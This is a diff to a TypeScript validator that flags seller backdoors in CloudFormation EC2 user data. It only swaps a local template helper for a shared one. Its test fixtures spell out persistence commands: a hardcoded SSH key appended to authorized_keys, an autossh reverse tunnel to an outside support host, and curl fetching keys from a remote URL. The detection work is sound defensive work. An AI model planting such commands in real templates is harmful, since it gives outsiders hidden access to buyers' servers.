@@ -1,9 +1,8 @@
 import {defineValidator} from '../../src/contract.ts';
+import {hostRunning} from '../../src/examples.ts';
 import {pages} from '../../src/limits.ts';
 
 const key = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA${'Larkspur'.repeat(5)}`;
-const host = (script: string) =>
-	`Resources:\n  Host:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData:\n        Fn::Base64: !Sub |\n          #!/bin/bash\n${script.replace(/^/gm, '          ')}\n`;
 
 export const noSellerAccess = defineValidator({
 	id: 'template/no-seller-access',
@@ -30,7 +29,7 @@ export const noSellerAccess = defineValidator({
 	examples: [
 		{
 			name: 'a key in user data',
-			files: {'template.yaml': host(`echo '${key}' >> /home/ec2-user/.ssh/authorized_keys`)},
+			files: {'template.yaml': hostRunning(`echo '${key}' >> /home/ec2-user/.ssh/authorized_keys`)},
 			expect: [{message: 'key', at: key, subject: 'Host'}],
 		},
 		{
@@ -42,32 +41,32 @@ export const noSellerAccess = defineValidator({
 		},
 		{
 			name: 'a key in cloud-config',
-			files: {'template.yaml': host('').replace('#!/bin/bash\n', `#cloud-config\n          ssh_authorized_keys:\n            - ${key}\n`)},
+			files: {'template.yaml': hostRunning('').replace('#!/bin/bash\n', `#cloud-config\n          ssh_authorized_keys:\n            - ${key}\n`)},
 			expect: [{message: 'key', at: key}],
 		},
 		{
 			name: 'a tunnel',
-			files: {'template.yaml': host('autossh -M 0 -N -R 2222:localhost:22 tunnel@support.larkspur-queue.com')},
+			files: {'template.yaml': hostRunning('autossh -M 0 -N -R 2222:localhost:22 tunnel@support.larkspur-queue.com')},
 			expect: [{message: 'tunnel', at: 'tunnel@support.larkspur-queue.com', subject: 'Host'}],
 		},
 		{
 			name: 'keys from a host',
-			files: {'template.yaml': host('curl -fsS https://keys.larkspur-queue.com/support.pub >> /root/.ssh/authorized_keys')},
+			files: {'template.yaml': hostRunning('curl -fsS https://keys.larkspur-queue.com/support.pub >> /root/.ssh/authorized_keys')},
 			expect: [{message: 'fetched', at: 'https://keys.larkspur-queue.com/support.pub'}],
 		},
 		{
 			name: 'a key under a condition',
-			files: {'template.yaml': host(`if [ '\${Support}' = on ]; then\n  echo '${key}' >> /root/.ssh/authorized_keys\nfi`)},
+			files: {'template.yaml': hostRunning(`if [ '\${Support}' = on ]; then\n  echo '${key}' >> /root/.ssh/authorized_keys\nfi`)},
 			expect: [{message: 'key', at: key}],
 		},
-		{name: 'a key that a parameter gives', files: {'template.yaml': host('echo "${PublicKey}" >> /root/.ssh/authorized_keys')}, expect: []},
+		{name: 'a key that a parameter gives', files: {'template.yaml': hostRunning('echo "${PublicKey}" >> /root/.ssh/authorized_keys')}, expect: []},
 		{
 			name: "EC2's own key",
-			files: {'template.yaml': host('curl http://169.254.169.254/latest/meta-data/public-keys/0/openssh-key >> /root/.ssh/authorized_keys')},
+			files: {'template.yaml': hostRunning('curl http://169.254.169.254/latest/meta-data/public-keys/0/openssh-key >> /root/.ssh/authorized_keys')},
 			expect: [],
 		},
-		{name: 'a tunnel to a host that the buyer gives', files: {'template.yaml': host('ssh -N -R 2222:localhost:22 "tunnel@${Bastion}"')}, expect: []},
-		{name: 'a key in a comment', files: {'template.yaml': host(`# echo '${key}' >> /root/.ssh/authorized_keys`)}, expect: []},
+		{name: 'a tunnel to a host that the buyer gives', files: {'template.yaml': hostRunning('ssh -N -R 2222:localhost:22 "tunnel@${Bastion}"')}, expect: []},
+		{name: 'a key in a comment', files: {'template.yaml': hostRunning(`# echo '${key}' >> /root/.ssh/authorized_keys`)}, expect: []},
 	],
 	*check({templates}) {
 		for (const {addedAccess, remoteAccess} of templates.map(({bootstrap}) => bootstrap)) {
